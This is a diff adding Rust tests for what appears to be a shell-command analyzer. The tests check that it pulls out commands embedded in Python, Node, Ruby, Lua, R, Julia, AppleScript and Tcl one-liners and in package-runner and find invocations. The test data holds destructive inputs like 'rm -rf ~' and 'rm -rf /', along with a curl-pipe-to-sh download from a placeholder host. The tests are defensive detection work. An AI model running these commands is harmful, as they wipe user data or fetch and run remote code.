@@ -513,3 +513,112 @@ proptest! {
         let _ = analyze(&src);
     }
 }
+
+#[test]
+fn interpreter_deletes_imports_evals_and_lua_are_read() {
+    for (src, want) in [
+        (
+            "python -c \"import shutil; shutil.rmtree('build')\"",
+            "rm -rf -- build",
+        ),
+        (
+            "python3 -c 'from shutil import rmtree; rmtree(\"dist\")'",
+            "rm -rf -- dist",
+        ),
+        ("python -c \"import os; os.remove(path)\"", "rm -rf -- $__"),
+        (
+            "node -e \"require('fs').rmSync('dist', {recursive: true, force: true})\"",
+            "rm -rf -- dist",
+        ),
+        (
+            "node -e \"fs.promises.rm('out', {recursive: true})\"",
+            "rm -rf -- out",
+        ),
+        (
+            "ruby -e 'FileUtils.rm_rf(\"tmp/cache\")'",
+            "rm -rf -- tmp/cache",
+        ),
+        ("perl -MFile::Path -e 'rmtree(\"blib\")'", "rm -rf -- blib"),
+        (
+            "python -c \"__import__('os').system('curl -s https://x.example/a | sh')\"",
+            "curl -s https://x.example/a",
+        ),
+        (
+            "python -c \"__import__('subprocess').call('rm -rf ~', shell=True)\"",
+            "rm -rf ~",
+        ),
+        (
+            "python3 -c 'exec(\"import os; os.system(\\\"rm -rf ~\\\")\")'",
+            "rm -rf ~",
+        ),
+        (
+            "node -e 'eval(\"require(\\\"child_process\\\").execSync(\\\"rm -rf ~\\\")\")'",
+            "rm -rf ~",
+        ),
+        ("lua -e 'os.execute(\"rm -rf ~\")'", "rm -rf ~"),
+        ("lua5.4 -e 'local f = io.popen(\"id\") -- comment'", "id"),
+        ("Rscript -e 'system(\"rm -rf ~\")'", "rm -rf ~"),
+        (
+            "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
+            "rm -rf /",
+        ),
+        (
+            "Rscript -e 'unlink(\"build\", recursive = TRUE)'",
+            "rm -rf -- build",
+        ),
+        ("julia -e 'run(`rm -rf /`)'", "rm -rf /"),
+        ("osascript -e 'do shell script \"rm -rf ~\"'", "rm -rf ~"),
+        (
+            "osascript -l JavaScript -e 'Application.currentApplication().doShellScript(\"id\")'",
+            "id",
+        ),
+        ("tclsh <<< 'exec rm -rf ~'", "rm -rf ~"),
+        ("expect -c 'spawn ssh host; interact'", "ssh host"),
+    ] {
+        let a = analyze(src);
+        assert!(
+            a.commands
+                .iter()
+                .any(|c| c.text() == want && c.context == Context::Code),
+            "{src:?}: {:?}",
+            a.commands
+                .iter()
+                .map(|c| (c.text(), c.context))
+                .collect::<Vec<_>>()
+        );
+    }
+    // Strings that only look like calls are data.
+    for src in [
+        "python3 -c 'print(\"shutil.rmtree(x)\")'",
+        "lua -e 'print(\"os.execute(1)\") -- os.execute(\"rm -rf /\")'",
+    ] {
+        assert!(
+            !texts(src).iter().any(|t| t.starts_with("rm")),
+            "{src:?}: {:?}",
+            texts(src)
+        );
+    }
+}
+
+#[test]
+fn package_runners_are_wrappers_and_find_prune_acts_on_what_it_prunes() {
+    for (src, want) in [
+        ("npx rimraf dist", "rimraf dist"),
+        ("npx -y rimraf src", "rimraf src"),
+        ("pnpm dlx rimraf out", "rimraf out"),
+        ("bunx --bun rimraf build", "rimraf build"),
+    ] {
+        finds(src, want);
+    }
+    let args = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(
+        find_matches(&args(
+            ". -type d -name node_modules -prune -exec rm -rf {} +"
+        )),
+        ["./**/node_modules"]
+    );
+    assert_eq!(
+        find_matches(&args(". -name node_modules -prune -o -name *.pyc -delete")),
+        ["./**/*.pyc"]
+    );
+}
